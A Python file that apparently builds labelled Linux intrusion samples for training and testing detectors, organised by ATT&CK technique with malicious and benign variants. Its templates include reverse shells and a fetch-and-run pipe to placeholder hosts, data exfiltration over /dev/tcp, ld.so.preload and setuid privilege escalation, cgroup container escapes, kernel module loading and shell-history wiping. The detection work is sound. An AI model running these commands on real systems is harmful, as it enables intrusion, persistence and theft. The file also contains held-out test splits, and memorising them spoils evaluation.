"""Intrusions into Linux: shells tied to the network, ways to root, what makes code run again, and what hides it.

Sources: ATT&CK's matrices for Linux and for Containers; each family's rule names its manual page.
"""

from __future__ import annotations

from tasks.families.tellings import Row, Telling, chained, each, file, made, order, start
from tasks.scene import HOST, Family

BASH, SSHD = "/usr/bin/bash", "/usr/sbin/sshd"
_HANDS = ("/usr/bin/bash", "/usr/bin/tee", "/usr/bin/cp", "/usr/bin/mv", "/usr/bin/curl", "/usr/bin/wget")
_FOREIGN = ("/tmp/{word}/{word2}", "/dev/shm/{word}", "/var/tmp/.{word}", "/usr/sbin/nginx", "/usr/sbin/apache2")
_PACKAGES = ("/usr/bin/dpkg", "/usr/bin/rpm", "/usr/bin/apt", "/usr/bin/puppet", "/usr/bin/snapd")


def sh(text: str, parent: str = SSHD) -> Row:
    """Describe one command that a shell runs."""
    return start(BASH, f"bash -c '{text}'", parent)


def _run(path: str, *arguments: str) -> Row:
    """Describe the start of a program with one of some arguments by a shell."""
    return order(path, *arguments, parent=BASH)


def _module(paths: tuple[str, ...]) -> Row:
    """Describe a kernel's module that is loaded."""
    return Row("module_load", "driver", {"file_path": paths, "process_path": "/usr/sbin/insmod"})


def _connect(host: str, use: str) -> str:
    """Write a one-liner of Python that connects to a host and does something with the socket `s`."""
    return f'import socket,os,pty;s=socket.create_connection(("{host}",443));{use}'


_TIED = '[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn("/bin/sh")'
_SENT = 's.sendall(b"{word}")'
_SUDOERS = ("/etc/sudoers", "/etc/sudoers.d/{word}", "/etc/sudoers.d/{user}")
_UNITS = (
    "/etc/systemd/system/{word}.service",
    "/etc/systemd/system/{word}.timer",
    "/usr/lib/systemd/system/{word}.socket",
    "/etc/init.d/{word}",
    "/etc/profile.d/{word}.sh",
    "/etc/update-motd.d/99-{word}",
    "/etc/udev/rules.d/99-{word}.rules",
    "/etc/rc.local",
)


def _written(paths: tuple[str, ...], writers: tuple[str, ...]) -> list[Telling]:
    """Tell of each path that one of some programs makes it or changes it."""
    return [[file(path, writer, activity)] for path in paths for writer in writers for activity in ("create", "modify")]


FAMILIES: tuple[Family, ...] = (
    made(
        "called_shell",
        "T1059.004",
        "execution",
        ("shell-over-network",),
        confirmed=each(
            sh("bash -i >& /dev/tcp/{address}/443 0>&1"),
            sh("sh -i >& /dev/tcp/{other_ip}/8080 0>&1"),
            sh("cat < /dev/tcp/{domain}/80 | bash"),
            _run("/usr/bin/nc", "{address} 443 -e /bin/sh"),
            _run("/usr/bin/python3", f"-c '{_connect('{domain}', _TIED)}'"),
        ),
        suspicious=each(
            sh("bash -i >& /dev/tcp/127.0.0.1/443 0>&1"),
            sh("tar c /srv/{word} > /dev/tcp/{address}/80"),
            sh("cat /srv/{word} > /dev/tcp/{domain}/80"),
            _run("/usr/bin/nc", "127.0.0.1 443 -e /bin/sh"),
            _run("/usr/bin/python3", f"-c '{_connect('{address}', _SENT)}'"),
        ),
        below=each(
            sh("echo > /dev/tcp/{address}/443"),
            sh("tar c /srv/{word} > /dev/tcp/{other_ip}/80"),
            sh("cat /srv/{word} > /dev/tcp/localhost/80"),
            _run("/usr/bin/nc", "-zv {address} 443"),
            _run("/usr/bin/python3", f"-c '{_connect('{other_ip}', _SENT)}'"),
        ),
        reaches=HOST,
        platform="linux",
    ),
    made(
        "preloaded_library",
        "T1574.006",
        "privilege_escalation",
        ("library-preloaded",),
        confirmed=each(
            sh("echo /tmp/{word}.so | tee -a /etc/ld.so.preload"),
            sh("cp /home/{user}/{word} /etc/ld.so.preload"),
            sh("cp /dev/shm/{word} /etc/ld.so.preload"),
        ),
        suspicious=each(
            sh("echo /usr/lib/{word}.so | tee -a /etc/ld.so.preload"),
            sh("LD_PRELOAD=/dev/shm/{word}.so /usr/bin/sudo -l"),
            sh("LD_AUDIT=/tmp/{word}.so /usr/bin/passwd -S"),
        ),
        below=each(
            sh("echo /tmp/{word}.so | grep -f /etc/ld.so.preload"),
            sh("LD_PRELOAD=/usr/lib/{word}.so /usr/bin/sudo -l"),
            sh("LD_AUDIT=/usr/lib/{word}.so /usr/bin/passwd -S"),
        ),
        reaches=HOST,
        platform="linux",
    ),
    made(
        "changed_sudoers",
        "T1548.003",
        "privilege_escalation",
        ("sudoers-changed",),
        confirmed=_written(_SUDOERS, _FOREIGN),
        suspicious=_written(_SUDOERS, _HANDS),
        below=[*_written(_SUDOERS, _PACKAGES), *_written(("/srv/{word}/sudoers", "/etc/sudo.conf"), _HANDS)],
        reaches=HOST,
        platform="linux",
    ),
    made(
        "written_unit",
        "T1543.002",
        "persistence",
        ("unit-written",),
        confirmed=_written(_UNITS, _FOREIGN),
        suspicious=_written(_UNITS, _HANDS),
        below=[
            *_written(_UNITS, _PACKAGES),
            *_written(("/srv/{word}/{word2}.service", "/opt/{word}/rc.local"), _HANDS),
        ],
        reaches=HOST,
        platform="linux",
    ),
    made(
        "inserted_module",
        "T1547.006",
        "persistence",
        ("kernel-module-inserted",),
        confirmed=each(
            _run("/usr/sbin/insmod", "/tmp/{word}.ko"),
            _run("/usr/sbin/insmod", "/home/{user}/{word}.ko"),
            _run("/usr/sbin/modprobe", "-d /dev/shm/{word} {word2}"),
        ),
        suspicious=each(
            _run("/usr/sbin/insmod", "./{word}.ko"),
            _run("/usr/sbin/insmod", "/opt/{word}/{word2}.ko"),
            _run("/usr/sbin/modprobe", "-d /opt/{word} {word2}"),
        ),
        below=each(
            _run("/usr/sbin/insmod", "/lib/modules/6.1.0-18-amd64/extra/{word}.ko"),
            _run("/usr/sbin/insmod", "/usr/lib/modules/5.15.0-105/updates/{word}.ko"),
            _run("/usr/sbin/modprobe", "-v {word}"),
        ),
        reaches=HOST,
        platform="linux",
    ),
    made(
        "setuid_shell",
        "T1548.001",
        "privilege_escalation",
        ("setuid-shell",),
        confirmed=each(
            _run("/usr/bin/chmod", "u+s /bin/bash"),
            _run("/usr/bin/chmod", "4755 /tmp/{word}"),
            _run("/usr/bin/chmod", "+s /var/tmp/{word}"),
            _run("/usr/bin/install", "-m 4755 /bin/sh /dev/shm/{word}"),
        ),
        below=each(
            _run("/usr/bin/chmod", "u+x /bin/bash"),
            _run("/usr/bin/chmod", "0755 /tmp/{word}"),
            _run("/usr/bin/chmod", "+x /var/tmp/{word}"),
            _run("/usr/bin/install", "-m 0755 /bin/sh /dev/shm/{word}"),
        ),
        reaches=HOST,
        platform="linux",
    ),
    made(
        "history_off",
        "T1070.003",
        "defense_evasion",
        ("shell-history-off",),
        suspicious=each(
            sh("unset HISTFILE"),
            sh("export HISTFILE=/dev/null"),
            sh("export HISTSIZE=0"),
            sh("set +o history"),
            sh("ln -sf /dev/null /home/{user}/.bash_history"),
            sh("rm -f /home/{user}/.bash_history"),
            sh("shred -u /home/{user}/.zsh_history"),
        ),
        below=each(
            sh("unset {word}"),
            sh("export HISTFILE=/home/{user}/{word}"),
            sh("export HISTSIZE={number}"),
            sh("set -o history"),
            sh("ls -l /home/{user}/.bash_history"),
            sh("rm -f /home/{user}/{word}"),
            sh("wc -l /home/{user}/.zsh_history"),
        ),
        platform="linux",
    ),
    made(
        "left_container",
        "T1611",
        "privilege_escalation",
        ("host-from-container",),
        confirmed=each(
            sh("echo /{word} > /tmp/{word2}/release_agent"),
            sh("echo /{word} > /sys/fs/cgroup/rdma/release_agent"),
            sh("mount -t cgroup -o rdma cgroup /{word}; echo /{word2} > /{word}/release_agent"),
        ),
        suspicious=each(
            sh("nsenter -t 1 -m -u -i -n sh"),
            sh("docker run -v /:/{word} -it {word2} chroot /{word}"),
            sh("podman run --privileged --volume /:/mnt {word} sh"),
        ),
        below=each(
            sh("nsenter -t {number} -m -u -i -n sh"),
            sh("docker run -v /:/{word}:ro -it {word2} ls /{word}"),
            sh("podman run --privileged --volume /srv:/mnt {word} sh"),
            sh("mount -t cgroup -o rdma cgroup /{word}; cat /{word}/release_agent"),
        ),
        reaches=HOST,
        platform="linux",
    ),
    made(
        "copied_memory",
        "T1003.007",
        "credential_access",
        ("process-memory-copied",),
        suspicious=each(
            _run("/usr/bin/gcore", "-o /root/{word} {number}"),
            _run("/usr/bin/gdb", "-p {number} --batch -ex gcore"),
            sh("dd if=/proc/{number}/mem of=/root/{word} bs=4096"),
            sh("strings /proc/{number}/mem"),
        ),
        below=each(
            _run("/usr/bin/gcore", "--help"),
            _run("/usr/bin/gdb", "-p {number} --batch -ex backtrace"),
            sh("dd if=/proc/{number}/maps of=/root/{word} bs=4096"),
            sh("strings /proc/{number}/environ"),
        ),
        platform="linux",
    ),
    # ---------------------------------------------------------------- for choosing models
    # ATT&CK group G0139: the history is switched off before root is made to last.
    chained(
        "rooted_host",
        "T1548.003",
        "privilege_escalation",
        ("shell-history-off", "sudoers-changed"),
        [
            ([sh("unset HISTFILE")], [sh("unset {word}")]),
            (
                [file(_SUDOERS, ("/usr/bin/tee", "/usr/bin/bash", "/usr/bin/cp"))],
                [file(_SUDOERS, ("/usr/bin/dpkg", "/usr/bin/rpm", "/usr/bin/puppet"))],
            ),
        ],
        reaches=HOST,
        platform="linux",
        split="val_family",
    ),
    # ATT&CK T1014: a rootkit's module, as a sensor in the kernel sees it loaded.
    made(
        "loaded_module",
        "T1547.006",
        "persistence",
        ("kernel-module-inserted",),
        confirmed=each(_module(("/tmp/{word}.ko", "/home/{user}/{word}.ko", "/dev/shm/{word}.ko"))),
        below=each(_module(("/lib/modules/6.1.0-18-amd64/extra/{word}.ko", "/usr/lib/modules/5.15.0-105/{word}.ko"))),
        explanations=(),
        reaches=HOST,
        platform="linux",
        split="val_family",
    ),
    # ---------------------------------------------------------------- for testing
    # ATT&CK group G0139: out of a container by the host's root, where a unit is left behind.
    chained(
        "escaped_container",
        "T1611",
        "privilege_escalation",
        ("host-from-container", "unit-written"),
        [
            (
                [sh("docker run -v /:/{word} -it {word2} chroot /{word}")],
                [sh("docker run -v /:/{word}:ro -it {word2} ls /{word}")],
            ),
            (
                [file(_UNITS[:2], ("/usr/bin/tee", "/usr/bin/bash", "/usr/bin/cp"))],
                [file(_UNITS[:2], ("/usr/bin/dpkg", "/usr/bin/rpm", "/usr/bin/puppet"))],
            ),
        ],
        reaches=HOST,
        platform="linux",
        split="test_family",
    ),
    # ATT&CK T1543.002: a unit that lies where everybody may write is enabled.
    made(
        "linked_unit",
        "T1543.002",
        "persistence",
        ("unit-written",),
        suspicious=each(
            _run("/usr/bin/systemctl", "link /tmp/{word}.service", "enable --now /home/{user}/{word}.service")
        ),
        below=each(_run("/usr/bin/systemctl", "link /opt/{word}.service", "enable --now {word}.service")),
        platform="linux",
        split="test_family",
    ),
)
